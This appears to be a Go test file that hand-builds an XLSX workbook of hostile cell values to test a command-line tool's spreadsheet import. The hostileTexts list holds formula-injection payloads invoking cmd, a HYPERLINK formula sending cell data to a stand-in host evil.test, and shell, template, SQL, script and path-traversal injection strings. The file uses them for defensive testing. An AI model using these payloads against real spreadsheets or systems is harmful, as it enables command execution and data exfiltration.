//go:build unix

package cli_test

import (
	"archive/zip"
	"fmt"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
)

// hostileSheet is a workbook under construction, its XML written by hand:
// libraries do not write what it holds.
type hostileSheet struct {
	date1904  bool
	rows      strings.Builder
	merges    []string
	count     int
	addresses map[string][]string // by the client's e-mail address in lower case: what its cells say
}

// hostileText is a text as the file holds it and as it must arrive; "" where
// it must be refused or is nothing.
type hostileText struct{ stored, arrives string }

func same(s string) hostileText { return hostileText{s, s} }

// hostileTexts are what stands in text cells. Each is given the canary.
var hostileTexts = []hostileText{
	same("1 High Street"), same("=1+1"), same("=cmd|' /C evil'!A0"), same("+1+cmd|evil"), same("-1+1"), same("@SUM(1+1)*cmd|evil"),
	same("=HYPERLINK(\"http://evil.test?x=\"&A1,\"click\")"), same("{{.Env}}"), same("${HOME}"), same("$(evil)"), same("`evil`"), same("%s%n%d"), same(`"},{"x":"`),
	same("\\\"},{\\\"x\\\":\\\""), same("</t></is></c><evil/>"), same("<script>evil()</script>"), same("'; DROP TABLE steps;--"), same("../../etc/evil"),
	same("{E-mail}"), same("{{E-mail}}"), same("E-mail | Name"), same("null"), same("true"), same("NaN"), same("00123"), same("1E5"), same("#N/A"),
	same("a\tb"), {"line one\r\nline two", "line one\nline two"}, {"line one\rline two", "line one\nline two"}, same("line one\nline two"),
	same("Zo\u00eb"), same("Zoe\u0308"), same("a\u200bb"), same("a\u202eb\u202c"), same("\u2066a\u2069b"), same("👩\u200d👩\u200d👧"), same("ﷺ"), same("\U0001F4A9 \U000E0001x"),
	{"  spaced out \u00a0", "spaced out"}, {"\u200bzero\u2060", "zero"}, {"_x0041_BC", "ABC"}, {"_x005F_x0041_", "_x0041_"},
	{"NUL_x0000_here", ""}, {"ESC_x001B_[31mred", ""}, {"BEL_x0007_", ""}, {"lost\ufffdcharacter", ""}, {"\u200b", ""}, {"   ", ""}, {"DEL\u007f", ""}, {"C1\u0085x", ""},
}

// newHostileSheet makes a sheet of rows, some of which make whole clients and
// many of which do not. The same every time.
func newHostileSheet(rows int, date1904 bool) *hostileSheet {
	h := &hostileSheet{date1904: date1904, addresses: map[string][]string{}}
	rng := rand.New(rand.NewPCG(19, 19))
	for n := range rows {
		h.hostileRow(rng, n)
	}
	return h
}

func (h *hostileSheet) hostileRow(rng *rand.Rand, n int) {
	if n%97 == 96 {
		h.row(n%2 == 0, inline("   "), inline("\u00a0"))
		return
	}
	client := n
	if rng.IntN(10) == 0 && n > 0 {
		client = rng.IntN(n) // a client of an earlier row once more
	}
	email := fmt.Sprintf("c%d@example.com", client)
	written := pick(rng, []string{email, email, email, strings.ToUpper(email), " " + email + "\u00a0", "\u200b" + email, "\u202a" + email + "\u202c"})
	mail := inline(written)
	if rng.IntN(25) == 0 {
		mail = pick(rng, []string{inline("no mail " + canary), inline(canary + "@@evil.test"), inline(canary + "@evil"), `t="e"><v>#REF!</v>`, "", inline("a@b.example,c@d.example"), `><f>A1</f>`})
	}
	text := pick(rng, hostileTexts)
	address := inline(text.stored + " ")
	if text.arrives != "" {
		h.addresses[email] = append(h.addresses[email], text.arrives)
	}
	if rng.IntN(40) == 0 {
		address = inline(strings.Repeat(canary+"ü", 4_681)) // 32,767 characters
		h.addresses[email] = append(h.addresses[email], strings.Repeat(canary+"ü", 4_681))
	}
	usual := func(often int, good string, bad ...string) string {
		if rng.IntN(often) > 0 {
			return good
		}
		return pick(rng, bad)
	}
	h.row(rng.IntN(20) == 0, mail, usual(8, inline("Ann"), inline(canary+"\u202e"), `t="e"><v>#DIV/0!</v>`, `><v>0.1</v>`),
		usual(5, inline("07911 123456"), inline("1E5"), `s="2"><v>1E5</v>`, `><v>447911123456</v>`, inline("00447911123456"), inline("07911 123456 ext 5"), inline("٠٧٩١١ ١٢٣٤٥٦"), inline(canary)),
		usual(5, `s="1"><v>29342</v>`, `s="1"><v>60</v>`, `s="1"><v>0.5</v>`, `s="1"><v>-1</v>`, `><v>29342</v>`, inline("1980-05-01"), inline("01/05/1980"), inline("1980-13-45"), inline(canary), `s="1"><v>2958466</v>`),
		address, usual(8, inline("Yes"), inline("TRUE"), `t="b"><v>1</v>`, `><v>1</v>`, inline("perhaps "+canary), `t="e"><v>#VALUE!</v>`),
		usual(8, inline(fmt.Sprintf("A-%d", n)), inline(fmt.Sprintf("00%d", n)), inline("Caf\u00e9"), inline("Cafe\u0301"), `><v>7.7E+09</v>`, `><v>12345678901234567890</v>`, "", `s="3"><v>7</v>`),
		usual(8, `><v>1250.5</v>`, inline("£1,250.50"), inline("1.250,50"), inline("(12)"), `><v>1E300</v>`, `><v>1.1000000000000001</v>`, inline("5%"), `><f>1+1</f>`),
		usual(8, inline("2026-03-31 09:30"), inline("2026-03-29 01:30"), inline("2026-10-25 01:30"), `s="1"><v>45000.25</v>`, inline(canary)))
	if rng.IntN(50) == 0 {
		h.merges = append(h.merges, fmt.Sprintf("B%d:C%d", h.count+1, h.count+1))
	}
}

// inline is a text cell as its XML goes on behind <c r="A1". Any text is
// written as it is, but for what XML itself needs.
func inline(s string) string {
	return `t="inlineStr"><is><t xml:space="preserve">` + xmlText.Replace(s) + `</t></is>`
}

var xmlText = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "\r", "&#13;")

// row adds a row of cells; "" is none.
func (h *hostileSheet) row(hidden bool, cells ...string) {
	h.count++
	attribute := ""
	if hidden {
		attribute = ` hidden="1"`
	}
	fmt.Fprintf(&h.rows, `<row r="%d"%s>`, h.count+1, attribute)
	for i, c := range cells {
		if c != "" {
			fmt.Fprintf(&h.rows, `<c r="%c%d" %s</c>`, 'A'+i, h.count+1, c)
		}
	}
	h.rows.WriteString("</row>")
}

// write packs the workbook.
func (h *hostileSheet) write(t *testing.T, path string) {
	t.Helper()
	const main, docs = "http://schemas.openxmlformats.org/spreadsheetml/2006/main", "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	var headers strings.Builder
	for i, name := range header {
		fmt.Fprintf(&headers, `<c r="%c1" %s</c>`, 'A'+i, inline(name.(string)))
	}
	merges := ""
	if len(h.merges) > 0 {
		merges = `<mergeCells><mergeCell ref="` + strings.Join(h.merges, `"/><mergeCell ref="`) + `"/></mergeCells>`
	}
	parts := map[string]string{
		"[Content_Types].xml":        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>`,
		"_rels/.rels":                `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="` + docs + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/_rels/workbook.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="` + docs + `/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="` + docs + `/styles" Target="styles.xml"/></Relationships>`,
		"xl/workbook.xml":            fmt.Sprintf(`<workbook xmlns="%s" xmlns:r="%s"><workbookPr date1904="%v"/><sheets><sheet name="Leads" sheetId="1" r:id="r1"/></sheets></workbook>`, main, docs, h.date1904),
		"xl/styles.xml":              `<styleSheet xmlns="` + main + `"><numFmts count="1"><numFmt numFmtId="164" formatCode="00000"/></numFmts><cellXfs count="4"><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="11"/><xf numFmtId="164"/></cellXfs></styleSheet>`,
		"xl/worksheets/sheet1.xml":   `<worksheet xmlns="` + main + `"><sheetData><row r="1">` + headers.String() + `</row>` + h.rows.String() + `</sheetData>` + merges + `</worksheet>`,
	}
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z := zip.NewWriter(f)
	for name, content := range parts {
		w, err := z.Create(name)
		if err == nil {
			_, err = w.Write([]byte(content))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
}
